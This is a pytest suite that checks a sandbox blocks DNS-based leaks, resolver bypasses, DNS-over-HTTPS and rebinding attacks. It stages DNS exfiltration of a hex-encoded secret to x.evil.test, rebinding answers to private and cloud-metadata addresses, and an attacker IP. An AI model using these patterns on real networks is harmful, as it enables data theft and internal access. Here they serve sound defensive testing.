"""Public reports of kind DNS: what a look-up carries out, and answers that change between check and dial."""

from __future__ import annotations

from collections.abc import Callable
from itertools import product
from typing import Any

import pytest
from attack_steps import ENTRIES, Tried, allow, get, ok

from stockade.prove.world_client import World

pytestmark = [pytest.mark.kernel, pytest.mark.needs("world", "userns", "bwrap", "room")]

Do = Callable[..., Tried]
APP, EVIL = "93.184.216.34", "93.184.216.66"
SECRET = "7365637265742d73656372.x.evil.test"
# Types by number: A, CNAME, NULL, MX, TXT, AAAA, SRV, HTTPS, ANY.
TYPES = (1, 5, 10, 15, 16, 28, 33, 65, 255)


def test_r044_labels_of_an_unlisted_name_reach_no_resolver(
    in_the_open: Do, contained: Do, world: World
) -> None:
    steps = [{"do": "dns", "host": "9.9.9.9", "name": SECRET, "type": kind} for kind in TYPES]
    steps.append({"do": "resolve", "host": SECRET})
    in_the_open(*steps)
    assert len(world.dns_questions(SECRET)) >= len(TYPES)
    world.reset()
    tried = contained(*steps, policy=allow("app.test"))
    assert world.dns_questions() == []
    assert world.packets() == []
    records = tried.run.attempts(entry="dns")
    assert len(records) >= len(TYPES)
    assert {record["name"] for record in records} == {SECRET}
    assert {record["verdict"] for record in records} == {"deny"}


def test_r044_a_name_below_an_allowed_one_reaches_no_resolver_either(contained: Do, world: World) -> None:
    contained({"do": "resolve", "host": "secret.app.test"}, get("app.test"), policy=allow("app.test"))
    assert {question["name"] for question in world.dns_questions()} == {"app.test"}


@pytest.mark.parametrize("entry", ENTRIES)
def test_r045_verdict_on_the_name_comes_before_any_look_up(contained: Do, world: World, entry: str) -> None:
    steps = [get(SECRET, entry=entry), get(SECRET, entry=entry, tunnel=True)]
    tried = contained(*steps, policy=allow("app.test"))
    assert world.dns_questions() == []
    assert not any(map(ok, tried.answers))
    assert [denial["reason"] for denial in tried.run.denials()] == ["not-listed"] * 2


# Over TCP the room's own loopback is left out: it belongs to the worker, who may run a server there.
SERVERS = ("8.8.8.8", EVIL, "2001:4860:4860::8888", "10.9.0.2")


@pytest.mark.parametrize(("server", "tcp"), [*product(SERVERS, (False, True)), ("127.0.0.1", False)], ids=str)
def test_r046_a_resolver_of_ones_own_choice_is_not_asked(
    contained: Do, world: World, server: str, tcp: bool
) -> None:
    """Any server address is answered from inside; what leaves the machine is nothing."""
    steps = [{"do": "dns", "host": server, "name": name, "tcp": tcp} for name in (SECRET, "app.test")]
    tried = contained(*steps, policy=allow("app.test"))
    assert world.packets() == []
    assert world.dns_questions() == []
    assert [record["name"] for record in tried.run.attempts(entry="dns")] == [SECRET, "app.test"]
    assert tried[1]["address"].startswith(("198.18.", "198.19."))


def test_r046_control_an_outside_resolver_is_reached_in_the_open(in_the_open: Do, world: World) -> None:
    in_the_open({"do": "dns", "host": "8.8.8.8", "name": SECRET, "patience": 0.2})
    assert len(world.packets(address="8.8.8.8", port=53)) == 1


@pytest.mark.parametrize("entry", ENTRIES)
def test_r048_a_dns_over_https_provider_is_not_reached_unless_listed(
    contained: Do, world: World, entry: str
) -> None:
    world.set_dns({"doh.test": {"a": [EVIL]}})
    body = "POST /dns-query HTTP/1.1\r\nHost: doh.test\r\nContent-Length: 3\r\n\r\nabc"
    step = {"do": "talk", "host": "doh.test", "port": 443, "entry": entry, "sni": "doh.test", "send": body}
    listed = contained(step, policy=allow("doh.test"))
    assert [arrival["sni"] for arrival in world.arrivals(address=EVIL)] == ["doh.test"]
    # That it was used is on record; what was asked there is not, so lint warns of such a rule.
    assert [attempt["name"] for attempt in listed.run.attempts()] == ["doh.test"]
    world.reset()
    tried = contained(step, policy=allow("app.test"))
    assert world.packets() == []
    assert [denial["name"] for denial in tried.run.denials()] == ["doh.test"]


@pytest.mark.parametrize("entry", ENTRIES)
def test_r049_the_address_that_was_judged_is_the_one_that_is_dialled(
    in_the_open: Do, contained: Do, world: World, entry: str
) -> None:
    """First answer public, every later one a trap; no attempt may mix the two."""
    turning: dict[str, Any] = {"ttl": 0, "sequence": [{"a": [APP]}] + [{"a": ["10.20.0.5"]}] * 50}
    world.set_dns({"turn.test": turning})
    in_the_open(get("turn.test"), get("turn.test"))
    assert [arrival["address"] for arrival in world.arrivals()] == [APP, "10.20.0.5"]
    world.reset()
    world.set_dns({"turn.test": turning})
    tried = contained(
        get("turn.test", entry=entry), {"do": "sleep", "seconds": 1.2}, get("turn.test", entry=entry),
        policy=allow("turn.test"),
    )  # fmt: skip
    assert ok(tried[0])
    assert {packet["address"] for packet in world.packets()} == {APP}
    assert [request["host"] for request in world.requests()] == ["turn.test"]
    assert [denial["reason"] for denial in tried.run.denials()] == ["private-address"]


ANSWERS: dict[str, dict[str, Any]] = {
    "public-private": {"a": [APP, "10.20.0.5"]},
    "private-public": {"a": ["10.20.0.5", APP]},
    "public-metadata": {"a": [APP, "169.254.169.254"]},
    "a-public-aaaa-private": {"a": [APP], "aaaa": ["fd00::5"]},
    "a-private-aaaa-public": {"a": ["10.20.0.5"], "aaaa": ["2606:2800:220:1::34"]},
    "alias-to-private": {"cname": "priv.test"},
}


@pytest.mark.parametrize("answer", ANSWERS.values(), ids=ANSWERS)
@pytest.mark.parametrize("entry", ENTRIES)
def test_r051_one_forbidden_answer_denies_the_attempt(
    contained: Do, world: World, entry: str, answer: dict[str, Any]
) -> None:
    world.set_dns({"both.test": answer})
    tried = contained(
        get("both.test", entry=entry), get("dual.test", entry=entry), policy=allow("both.test", "dual.test")
    )
    assert [ok(one) for one in tried.answers] == [False, True]
    assert [request["host"] for request in world.requests()] == ["dual.test"]
    assert [denial["name"] for denial in tried.run.denials()] == ["both.test"]


def test_r052_a_name_that_moves_is_followed_and_its_old_address_is_left(contained: Do, world: World) -> None:
    moved = "93.184.216.99"
    world.set_dns({"moves.test": {"ttl": 0, "sequence": [{"a": [APP]}] + [{"a": [moved]}] * 50}})
    tried = contained(
        get("moves.test"), {"do": "sleep", "seconds": 1.2}, get("moves.test"), policy=allow("moves.test")
    )
    assert [ok(answer) for answer in tried.answers if "reply" in answer] == [True, True]
    assert [arrival["address"] for arrival in world.arrivals()] == [APP, moved]


def test_r055_thousands_of_answers_open_nothing_beside_the_listed_port(contained: Do, world: World) -> None:
    asks = [{"do": "dns", "host": "9.9.9.9", "name": "app.test"}] * 1000
    tried = contained(*asks, get("app.test", 22), get("app.test"), policy=allow("app.test"))
    assert len({answer["address"] for answer in tried.answers if "address" in answer}) == 1
    assert ok(tried[-1])
    assert {packet["port"] for packet in world.packets()} == {80}
    assert [denial["reason"] for denial in tried.run.denials()] == ["wrong-port"]


def test_r057_denied_loopback_leaves_name_resolution_and_the_rooms_own_loopback_alone(
    contained: Do, world: World
) -> None:
    tried = contained(
        {"do": "own_listener", "host": "127.0.0.1", "port": 8899},
        {"do": "dns", "host": "127.0.0.1", "name": "app.test"},
        get("app.test"),
        get("loop.test", 80),
        policy=allow("app.test", "loop.test"),
    )
    assert tried[0]["reply"] == "hello"
    assert tried[1]["rcode"] == 0
    assert [ok(tried[2]), ok(tried[3])] == [True, False]


@pytest.mark.parametrize("name", ["app.test", "dual.test", "six.test", "alias.test", "chain.test"])
def test_r058_a_program_that_resolves_by_itself_reaches_an_allowed_name(
    contained: Do, world: World, name: str
) -> None:
    tried = contained({"do": "resolve", "host": name}, get(name), policy=allow(name))
    assert tried[0]["addresses"]
    assert ok(tried[1])
    assert [request["host"] for request in world.requests()] == [name]
